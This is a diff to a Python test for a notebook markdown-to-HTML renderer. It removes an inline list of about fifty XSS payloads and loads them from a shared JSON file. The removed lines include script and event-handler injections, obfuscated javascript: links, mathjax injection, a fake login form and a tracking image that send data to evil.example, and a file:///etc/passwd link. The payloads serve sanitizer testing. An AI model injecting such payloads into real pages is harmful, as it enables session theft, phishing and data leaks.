@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -10,56 +12,8 @@ from hypothesis import strategies as st
 
 from kani_nb.notebook.render import GrowingMarkdown, markdown_to_html
 
-ATTACKS = {
-    "script element": "<script>window.pwned=1</script>",
-    "image handler": '<img src=x onerror="window.pwned=1">',
-    "svg handler": "<svg/onload=alert(1)>",
-    "iframe": "<iframe src='https://evil.example'></iframe>",
-    "style element": "<style>@import 'https://evil.example/x.css';</style>",
-    "form": "<form action=https://evil.example><input name=password><button>Log in</button></form>",
-    "base element": '<base href="https://evil.example/">',
-    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
-    "javascript link": "[x](javascript:alert(1))",
-    "upper-case javascript link": "[x](JaVaScRiPt:alert(1))",
-    "entity in the scheme": "[x](&#106;avascript:alert(1))",
-    "tab in the scheme": "[x](java&Tab;script:alert(1))",
-    "newline in the scheme": "[x](<java&NewLine;script:alert(1)>)",
-    "leading control character": "[x](<\x01javascript:alert(1)>)",
-    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "vbscript link": "[x](vbscript:msgbox(1))",
-    "file link": "[x](file:///etc/passwd)",
-    "protocol-relative link": "[x](//evil.example/x)",
-    "relative link": "[x](/api/shutdown)",
-    "autolink": "<javascript:alert(1)>",
-    "remote image": "![pixel](https://evil.example/?q=secret)",
-    "javascript image": "![x](javascript:alert(1))",
-    "image in a link": "[![x](https://evil.example/i.png)](javascript:alert(1))",
-    "reference link": "[x][1]\n\n[1]: javascript:alert(1)",
-    "reference image": "![x][1]\n\n[1]: https://evil.example/i.png",
-    "quotes in a title": '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
-    "quotes in an address": '[x](https://a.example/"onmouseover="alert(1))',
-    "fence language": '```"><img/src=x/onerror=alert(1)>\ncode\n```',
-    "fence language as class": "```x jp-Toolbar\ncode\n```",
-    "code that closes its element": "```html\n</code></pre><script>alert(1)</script>\n```",
-    "inline code": "`</code><script>alert(1)</script>`",
-    "table cell": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
-    "table alignment": '|a|\n|:-:" style="x|\n|b|',
-    "nested quotes": "> > <b onclick='alert(1)'>x</b>",
-    "html in a list": "- <details open ontoggle=alert(1)>",
-    "mathjax link": r"$\href{javascript:alert(1)}{x}$",
-    "mathjax style": r"\(\style{position:fixed;inset:0}{x}\)",
-    "mathjax class": r"$$\class{jp-Button}{x}$$",
-    "mathjax definition": r"\[\gdef\alpha{\href{https://evil.example}{x}}\]",
-    "mathjax closes its span": "$</span><script>alert(1)</script>$",
-    "entities for a tag": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
-    "nul in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "comment trick": "<!--><script>alert(1)</script>-->",
-    "cdata trick": "<![CDATA[><script>alert(1)</script>]]>",
-    "math element namespace": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "template element": "<template><script>alert(1)</script></template>",
-    "lone surrogate": "\ud800<script>\udfffalert(1)</script>",
-}
+#: By name; the front end's own tests and the browser's read them too.
+ATTACKS = json.loads((Path(__file__).parents[1] / "hostile_answers.json").read_text(encoding="utf-8"))
 
 ALLOWED = {
     *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "hr", "br"),
